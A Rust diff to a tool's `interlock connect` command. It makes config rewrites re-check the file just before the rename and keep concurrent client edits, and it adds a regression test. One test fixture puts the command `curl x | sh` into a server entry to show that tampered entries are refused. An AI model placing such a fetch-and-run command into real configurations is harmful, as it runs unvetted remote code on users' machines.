@@ -77,6 +77,11 @@ pub enum ConnectError {
     Changed { path: PathBuf },
     #[error("nothing to undo: `interlock connect` has not changed {path}")]
     NothingToUndo { path: PathBuf },
+    #[error(
+        "{path} kept changing while `interlock connect` wrote it (the client rewrites it while \
+         it runs?), or a server it moves changed: nothing was written to it; run connect again"
+    )]
+    ChangedWhileWriting { path: PathBuf },
     #[error("the gateway config would be refused: {0}")]
     Config(String),
     /// The running gateway's admin socket failed or refused.
@@ -443,8 +448,8 @@ impl Host {
                 .collect();
             let removed: Vec<String> = p.imports.iter().map(|i| i.client_name.clone()).collect();
             let target = p.plan.target.clone();
-            let client_text = p.doc.rewrite(&removed, entry);
-            let layer = layers::Layer {
+            let client_text = p.doc.rewrite(&removed, entry.clone());
+            let mut layer = layers::Layer {
                 client: req.client.slug().to_owned(),
                 file: target.clone(),
                 written_sha256: sha256_hex(client_text.as_bytes()),
@@ -463,7 +468,7 @@ impl Host {
                 added: p.plan.entry.as_ref().map(|e| e.name.clone()),
             };
             let dir = layers::dir(&self.data_dir()?, req.client.slug(), &target);
-            layers::push(&dir, &p.original, &layer).map_err(|e| file_err(&dir, e))?;
+            let mut n = layers::push(&dir, &p.original, &layer).map_err(|e| file_err(&dir, e))?;
             if gateway_text != p.gateway_text || !p.gateway_exists {
                 let mode = if p.gateway_exists {
                     mode_of(&p.plan.gateway_config)?
@@ -472,7 +477,39 @@ impl Host {
                 };
                 write_atomic(&p.plan.gateway_config, gateway_text.as_bytes(), mode)?;
             }
-            write_atomic(&target, client_text.as_bytes(), p.mode)?;
+            // The client may rewrite its file while connect runs (Claude Code
+            // does, for its own state): the file is re-read just before the
+            // rename, and a change made meanwhile is kept — the edit is made
+            // again on the new bytes, and the backup is those bytes — as long
+            // as the servers connect moves are as they were (issue 39 item 16).
+            let mut based_on = p.original.clone();
+            let mut client_text = client_text;
+            let mut attempt = 0;
+            loop {
+                match write_atomic_unless_changed(
+                    &target,
+                    client_text.as_bytes(),
+                    p.mode,
+                    &based_on,
+                )? {
+                    Written::Done => break,
+                    Written::ChangedMeanwhile(now) if attempt < WRITE_ATTEMPTS => {
+                        attempt += 1;
+                        client_text =
+                            edit_again(req.client, &target, &p.original, &now, &removed, &entry)?;
+                        layer.written_sha256 = sha256_hex(client_text.as_bytes());
+                        layers::pop(&dir, n).map_err(|e| file_err(&dir, e))?;
+                        n = layers::push(&dir, &now, &layer).map_err(|e| file_err(&dir, e))?;
+                        based_on = now;
+                    }
+                    Written::ChangedMeanwhile(_) => {
+                        let _ = layers::pop(&dir, n);
+                        return Err(ConnectError::ChangedWhileWriting {
+                            path: target.clone(),
+                        });
+                    }
+                }
+            }
             Ok::<(), ConnectError>(())
         }
         .await;
@@ -1020,6 +1057,79 @@ fn mode_of(path: &Path) -> Result<u32, ConnectError> {
         & 0o7777)
 }
 
+/// How many times connect makes its edit again on a client file that changed
+/// under it before it gives up.
+const WRITE_ATTEMPTS: usize = 3;
+
+/// What [`write_atomic_unless_changed`] did.
+enum Written {
+    Done,
+    /// The file was not `based_on` any more: these are its bytes now, and
+    /// nothing was written.
+    ChangedMeanwhile(Vec<u8>),
+}
+
+/// Connect's edit made again on `now`, the client file's bytes after a
+/// change made while connect ran: refused unless every server connect moves
+/// is exactly as it was in `original` (what the plan and its import were
+/// made from), and `now` has no new server of a moved server's name.
+fn edit_again(
+    client: Client,
+    path: &Path,
+    original: &[u8],
+    now: &[u8],
+    removed: &[String],
+    entry: &[(String, edit::Members)],
+) -> Result<String, ConnectError> {
+    let changed = || ConnectError::ChangedWhileWriting {
+        path: path.to_owned(),
+    };
+    let parse = |bytes: &[u8]| {
+        let text = std::str::from_utf8(bytes).map_err(|_| changed())?;
+        Doc::parse(client, text).map_err(|_| changed())
+    };
+    let (_, before) = parse(original)?;
+    let (doc, after) = parse(now)?;
+    let entry_of = |entries: &[(String, serde_json::Value)], name: &str| {
+        entries
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.clone())
+    };
+    for name in removed {
+        if entry_of(&before, name) != entry_of(&after, name) {
+            return Err(changed());
+        }
+    }
+    Ok(doc.rewrite(removed, entry.to_vec()))
+}
+
+/// [`write_atomic`], unless `path` no longer holds `based_on` when the new
+/// bytes are ready: read again just before the rename, so a change another
+/// program made meanwhile is not overwritten. (A change in the microseconds
+/// between that read and the rename is still lost: clients take no lock
+/// connect could share.)
+fn write_atomic_unless_changed(
+    path: &Path,
+    bytes: &[u8],
+    mode: u32,
+    based_on: &[u8],
+) -> Result<Written, ConnectError> {
+    let mut changed = None;
+    write_atomic_checked(path, bytes, mode, &mut |now: Vec<u8>| {
+        if now == based_on {
+            true
+        } else {
+            changed = Some(now);
+            false
+        }
+    })?;
+    Ok(match changed {
+        Some(now) => Written::ChangedMeanwhile(now),
+        None => Written::Done,
+    })
+}
+
 /// Writes `bytes` to `path` through a temporary file in the same directory
 /// and a rename, so a crash leaves the old file or the new one, never half
 /// of one; the file gets `mode`, and the owner and group of the file it
@@ -1030,6 +1140,17 @@ fn mode_of(path: &Path) -> Result<u32, ConnectError> {
 /// planted under a predictable name in a shared project directory cannot
 /// redirect the write to another file (issue 39 item 16).
 fn write_atomic(path: &Path, bytes: &[u8], mode: u32) -> Result<(), ConnectError> {
+    write_atomic_checked(path, bytes, mode, &mut |_| true)
+}
+
+/// [`write_atomic`], asking `still_ok` with the file's bytes (empty when it
+/// does not exist) just before the rename; `false` leaves the file alone.
+fn write_atomic_checked(
+    path: &Path,
+    bytes: &[u8],
+    mode: u32,
+    still_ok: &mut dyn FnMut(Vec<u8>) -> bool,
+) -> Result<(), ConnectError> {
     use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _};
     let dir = path.parent().filter(|d| !d.as_os_str().is_empty());
     if let Some(d) = dir {
@@ -1046,7 +1167,7 @@ fn write_atomic(path: &Path, bytes: &[u8], mode: u32) -> Result<(), ConnectError
         .ok()
         .filter(|m| m.is_file())
         .map(|m| (m.uid(), m.gid()));
-    let write = || -> std::io::Result<()> {
+    let mut write = || -> std::io::Result<()> {
         let mut f = std::fs::OpenOptions::new()
             .write(true)
             .create_new(true)
@@ -1062,6 +1183,15 @@ fn write_atomic(path: &Path, bytes: &[u8], mode: u32) -> Result<(), ConnectError
         }
         f.set_permissions(std::fs::Permissions::from_mode(mode))?;
         f.sync_all()?;
+        let now = match std::fs::read(path) {
+            Ok(now) => now,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
+            Err(e) => return Err(e),
+        };
+        if !still_ok(now) {
+            std::fs::remove_file(&tmp)?;
+            return Ok(());
+        }
         std::fs::rename(&tmp, path)?;
         if let Some(d) = dir {
             std::fs::File::open(d)?.sync_all()?;
@@ -1078,7 +1208,71 @@ fn write_atomic(path: &Path, bytes: &[u8], mode: u32) -> Result<(), ConnectError
 mod tests {
     use std::os::unix::fs::PermissionsExt as _;
 
-    use super::write_atomic;
+    use super::{
+        Client, ConnectError, Written, edit_again, write_atomic, write_atomic_unless_changed,
+    };
+
+    /// Issue 39 item 16: connect wrote the client's file from the bytes it
+    /// read at the start, so a change the client made meanwhile (Claude Code
+    /// rewrites `~/.claude.json` while it runs) was lost. The file is read
+    /// again just before the rename; a change is kept, connect's edit made
+    /// again on it — unless a server connect moves changed, then nothing is
+    /// written.
+    #[test]
+    fn regression_issue_39_a_change_made_while_connect_writes_is_kept() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join(".claude.json");
+        let original = br#"{"numStartups": 1, "mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}"#;
+        // The client wrote meanwhile: another field, the server as it was.
+        let meanwhile = br#"{"numStartups": 2, "mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}"#;
+        std::fs::write(&file, meanwhile).unwrap();
+        let got = write_atomic_unless_changed(&file, b"{}", 0o600, original).unwrap();
+        let Written::ChangedMeanwhile(now) = got else {
+            panic!("written over a change")
+        };
+        assert_eq!(now, meanwhile);
+        assert_eq!(std::fs::read(&file).unwrap(), meanwhile, "nothing written");
+
+        let removed = vec!["time".to_owned()];
+        let entry = vec![(
+            "interlock".to_owned(),
+            vec![(
+                "url".to_owned(),
+                serde_json::json!("http://127.0.0.1:1/mcp"),
+            )],
+        )];
+        let again =
+            edit_again(Client::ClaudeCode, &file, original, &now, &removed, &entry).unwrap();
+        let again: serde_json::Value = serde_json::from_str(&again).unwrap();
+        assert_eq!(
+            again["numStartups"], 2,
+            "the client's change is kept: {again}"
+        );
+        assert!(again["mcpServers"]["time"].is_null(), "{again}");
+        assert_eq!(
+            again["mcpServers"]["interlock"]["url"],
+            "http://127.0.0.1:1/mcp"
+        );
+        assert!(matches!(
+            write_atomic_unless_changed(&file, b"{}", 0o600, &now).unwrap(),
+            Written::Done
+        ));
+
+        // A server connect moves changed meanwhile: refused, nothing made.
+        let swapped =
+            br#"{"mcpServers": {"time": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#;
+        assert!(matches!(
+            edit_again(
+                Client::ClaudeCode,
+                &file,
+                original,
+                swapped,
+                &removed,
+                &entry
+            ),
+            Err(ConnectError::ChangedWhileWriting { .. })
+        ));
+    }
 
     /// Issue 39 item 16: the temporary file had a predictable name
     /// (`.<file>.interlock-<pid>.tmp`) and was opened with `O_CREAT |
